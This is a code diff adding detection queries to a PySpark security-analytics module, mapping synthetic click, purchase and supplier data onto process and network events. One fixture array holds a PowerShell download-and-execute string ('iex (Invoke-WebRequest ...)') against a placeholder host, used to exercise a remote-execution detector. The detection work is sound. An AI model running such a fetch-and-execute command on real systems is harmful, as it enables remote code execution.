@@ -6,7 +6,7 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from ..functions import scalars as S
-from ..operators import cohorts, correlation, novelty, peers, profiles, summaries, triage
+from ..operators import cohorts, correlation, execution, novelty, peers, profiles, summaries, triage
 from ..sources.observations import cohort_view, novelty_view
 from .policy import DEFAULT, Policy
 
@@ -146,6 +146,24 @@ def findings_unexpected(spark: SparkSession, d: str) -> DataFrame:
     return novelty.suppress(found, expected, CLOCK).select("host", "identity", "occurrences")
 
 
+def dt03_remote_execution(spark: SparkSession, d: str) -> DataFrame:
+    k = F.col("k")
+    app = F.element_at(F.array(*map(F.lit, ["powershell.exe", "mshta.exe", "notepad.exe", "cmd.exe"])), (k % 4 + 1).cast("int"))
+    command = F.element_at(F.array(*map(F.lit, ["x https://a.example/p", "iex (Invoke-WebRequest HTTP://a.example)", "start-process y", "javascript:z http://b"])), (k % 7 % 4 + 1).cast("int"))
+    starts = novelty_view(spark, d).select("event_id", "host", app.alias("app"), command.alias("command"))
+    return execution.remote_execution(starts).select("event_id", "host", "app", "priority")
+
+
+def dt04_outbound_from_new_context(spark: SparkSession, d: str) -> DataFrame:
+    """Clicks as process starts (their user and k name the process), purchases as its outbound activity."""
+    obs = novelty_view(spark, d)
+    start = F.struct("ts", "event_id", "day", *novelty.PATTERN)
+    starts = obs.where("event_type = 'click'").groupBy("host", F.col("k").alias("guid")).agg(F.min(start).alias("s"))
+    starts = starts.select("host", "guid", F.col("s.ts").alias("created"), "s.day", *[F.col(f"s.{c}") for c in novelty.PATTERN], (F.col("guid") % 10 == 3).alias("encoded"))
+    network = obs.where("event_type = 'purchase'").select("host", F.col("k").alias("guid"), "ts")
+    return execution.outbound_from_new_context(starts, network, _days(spark, d), DEFAULT).select("host", "guid", *novelty.PATTERN, _r("created"), _r("network_ts"))
+
+
 # --- correlation, admission, queues
 
 
@@ -303,6 +321,18 @@ def cohort_persistence(spark: SparkSession, d: str) -> DataFrame:
     return cohorts.persistence(cohorts.cohort_members(pairs, found, COHORT["shown"]), training, later)
 
 
+def cohort_pair_overlaps(spark: SparkSession, d: str) -> DataFrame:
+    members = cohort_view(spark, d).select("host", "app").distinct()
+    return cohorts.pair_overlaps(members, "app").select("a", "b", _r("overlap"))
+
+
+def best_groups(spark: SparkSession, d: str) -> DataFrame:
+    """Suppliers as hosts, part groups as groups."""
+    rows = spark.read.parquet(f"{d}/lineitem.parquet").groupBy(F.col("l_suppkey").alias("host"), (F.col("l_partkey") % 40).alias("grp"))
+    rows = rows.agg(F.round(F.avg("l_quantity") / 100, 6).alias("delta"), F.count(F.lit(1)).alias("pairs"), F.count_distinct("l_orderkey").alias("members"))
+    return cohorts.best_groups(rows, delta=0.1, members=3, pairs=5)
+
+
 # --- triage
 
 
@@ -394,9 +424,9 @@ QUERIES = {
     f.__name__: f
     for f in (
         host_rollup, coverage, behavior_days, behavior_days_capped, distinct_estimates, sketch_merge, network_windows, references, references_all_days, app_support, pattern_support,
-        fleet_hosts, local_app_days, qualified_peers, peer_evidence, dt01_novelty, dt02_funnel, findings, findings_unexpected, process_network, admission, unseen, queue_metrics, next_batches,
+        fleet_hosts, local_app_days, qualified_peers, peer_evidence, dt01_novelty, dt02_funnel, dt03_remote_execution, dt04_outbound_from_new_context, findings, findings_unexpected, process_network, admission, unseen, queue_metrics, next_batches,
         global_addresses, prevalence, bundles, document_frequency, feature_weights, technical_vectors, technical_pairs, candidate_pairs, peer_pairs, peer_components, peer_groups,
-        group_explanations, group_centroids, observed_day_bands, strata, cohort_seeds, app_pairs, cohort_overlaps, cohort_persistence, finding_families, finding_families_top, variant_examples,
+        group_explanations, group_centroids, observed_day_bands, strata, cohort_seeds, app_pairs, cohort_overlaps, cohort_persistence, cohort_pair_overlaps, best_groups, finding_families, finding_families_top, variant_examples,
         finding_search, inbox, findings_table_page, finding_triggers, csv_cells, discover, endpoint_coverage, command_flags, path_functions, text_functions,
     )
 }
